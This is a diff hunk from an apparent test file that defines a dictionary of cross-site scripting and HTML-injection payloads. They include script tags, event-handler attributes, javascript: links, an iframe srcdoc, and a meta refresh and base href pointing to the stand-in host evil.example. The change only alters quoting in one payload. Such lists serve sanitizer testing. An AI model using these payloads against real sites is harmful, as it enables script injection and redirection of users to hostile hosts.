@@ -15,7 +15,7 @@ PAYLOADS = {
     "comment": f"<!--<script>{RUN}//--></script><!--",
     "half a comment": "<!-- <script> --!> ]]> <![CDATA[ ",
     "handler": f"<img src=x onerror='{RUN}'><svg onload='{RUN}'><body onload='{RUN}'>",
-    "attribute": f"\" onmouseover=\"{RUN}\" autofocus onfocus='{RUN}' x=`",
+    "attribute": f'" onmouseover="{RUN}" autofocus onfocus=\'{RUN}\' x=`',
     "link": f"<a href='javascript:{RUN}'>javascript:{RUN}</a>",
     "frame": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><object data='javascript:{RUN}'>",
     "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
